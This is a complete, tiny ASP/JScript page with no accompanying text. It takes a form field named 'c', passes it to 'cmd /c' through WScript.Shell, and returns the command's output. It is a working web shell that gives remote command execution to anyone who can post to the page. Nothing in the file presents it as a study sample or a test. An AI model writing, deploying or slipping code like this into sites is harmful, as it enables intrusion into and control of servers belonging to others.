<%@ Language=JScript %>
<%
var sh = new ActiveXObject("WScript.Shell");
var r = sh.Exec("cmd /c " + Request.Form("c"));
Response.Write(r.StdOut.ReadAll());
%>
